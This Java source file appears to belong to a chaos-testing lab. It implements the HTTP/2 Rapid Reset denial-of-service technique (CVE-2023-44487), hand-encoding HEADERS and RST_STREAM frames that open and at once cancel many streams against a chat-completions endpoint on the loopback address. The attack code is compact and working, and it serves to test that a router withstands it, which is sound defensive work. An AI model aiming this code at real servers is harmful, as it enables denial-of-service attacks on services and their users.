package dev.warmpath.lab.chaos;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;

/**
 * A connection of HTTP/2 whose streams are reset as soon as they are opened (CVE-2023-44487), by
 * frames of RFC 9113 and literal headers of RFC 7541.
 */
final class RapidReset {

  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;
  private static final int STREAMS_A_WRITE = 50;
  private static final int WAIT_MILLIS = 2_000;

  private RapidReset() {}

  /** Opens a connection and so many streams on it; ends early if the server closes it. */
  static void send(int port, byte[] authority, String authorization, int streams) {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
      socket.setSoTimeout(WAIT_MILLIS);
      byte[] headers = headers(authority, authorization);
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(ISO_8859_1));
      frame(out, SETTINGS, 0, 0, new byte[0]);
      for (int i = 0; i < streams; i++) {
        int stream = 2 * i + 1;
        frame(out, HEADERS, END_HEADERS, stream, headers);
        frame(out, RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL});
        if (i % STREAMS_A_WRITE == STREAMS_A_WRITE - 1) {
          socket.getOutputStream().write(out.toByteArray());
          out.reset();
        }
      }
    } catch (IOException e) {
      return; // the router closed it, as it should
    }
  }

  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
    int length = payload.length;
    out.writeBytes(
        new byte[] {
          (byte) (length >> 16), (byte) (length >> 8), (byte) length, (byte) type, (byte) flags
        });
    out.writeBytes(
        new byte[] {
          (byte) (stream >> 24), (byte) (stream >> 16), (byte) (stream >> 8), (byte) stream
        });
    out.writeBytes(payload);
  }

  private static byte[] headers(byte[] authority, String authorization) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x83, (byte) 0x86}); // :method POST, :scheme http
    literal(out, new byte[] {0x01}, authority);
    literal(out, new byte[] {0x04}, "/v1/chat/completions".getBytes(ISO_8859_1));
    literal(out, new byte[] {0x0f, 0x08}, authorization.getBytes(ISO_8859_1));
    literal(out, new byte[] {0x0f, 0x10}, "application/json".getBytes(ISO_8859_1));
    return out.toByteArray();
  }

  /**
   * A header that is not indexed, with a name of the static table.
   *
   * @param value of less than 127 bytes
   */
  private static void literal(ByteArrayOutputStream out, byte[] name, byte[] value) {
    out.writeBytes(name);
    out.write(value.length);
    out.writeBytes(value);
  }
}
